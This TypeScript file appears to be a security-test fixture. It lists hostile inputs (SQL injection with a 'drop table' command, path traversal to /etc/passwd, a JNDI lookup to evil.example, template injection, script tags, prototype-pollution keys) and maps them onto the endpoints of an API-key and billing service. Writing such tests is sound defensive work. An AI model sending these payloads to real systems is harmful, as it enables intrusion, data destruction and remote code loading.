/** What people type who look for a way in. */
export const hostileTexts = [
  "' or '1'='1",
  "'; drop table keys.keys; --",
  '\\',
  '%',
  '%_'.repeat(1_000),
  '../../../etc/passwd',
  '$' + '{jndi:ldap://evil.example}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '\u202e',
  'a'.repeat(8_000),
  '__proto__',
  'constructor',
  '9'.repeat(400),
  '-1e400',
];

/** Where a client's text goes, with the request that brings it there. */
export const placesOfText: Readonly<Record<string, (text: string) => [method: string, path: string, body?: object]>> = {
  'an id': (text) => ['GET', `/api/v1/api-keys/${encodeURIComponent(text)}`],
  'a key of analytics': (text) => ['GET', `/api/v1/usage/api-keys/${encodeURIComponent(text)}/analytics`],
  'a search': (text) => ['GET', `/api/v1/api-keys?search=${encodeURIComponent(text)}`],
  'a search of members': (text) => ['GET', `/api/v1/members?search=${encodeURIComponent(text)}`],
  'a search of organizations': (text) => ['GET', `/api/v1/admin/organizations?search=${encodeURIComponent(text)}`],
  'a search of audit events': (text) => ['GET', `/api/v1/audit-events?target_id=${encodeURIComponent(text)}`],
  'an order of jobs': (text) => ['GET', `/api/v1/jobs?order=${encodeURIComponent(text)}`],
  'a filter': (text) => ['GET', `/api/v1/usage/history?model=${encodeURIComponent(text)}`],
  'a time zone': (text) => [
    'GET',
    `/api/v1/usage/report?start_date=2026-01-01&end_date=2026-01-02&timezone=${encodeURIComponent(text)}`,
  ],
  'a granularity': (text) => [
    'GET',
    `/api/v1/usage/report?start_date=2026-01-01&end_date=2026-01-02&granularity=${encodeURIComponent(text)}`,
  ],
  'an unknown parameter': (text) => ['GET', `/api/v1/api-keys?${encodeURIComponent(text)}=1`],
  'a model': (text) => ['GET', `/v1/models/${encodeURIComponent(text)}`],
  'a name': (text) => ['POST', '/api/v1/api-keys', { name: text, scopes: ['models:list'] }],
  'a first name': (text) => ['PATCH', '/api/v1/profile', { first_name: text }],
  'an invoice': (text) => ['GET', `/api/v1/billing/documents/invoices/${encodeURIComponent(text)}`],
  'a coupon': (text) => ['POST', '/api/v1/billing/coupons/redeem', { code: text }],
  'an address': (text) => ['POST', '/api/v1/auth/login', { email: text, password: text }],
};
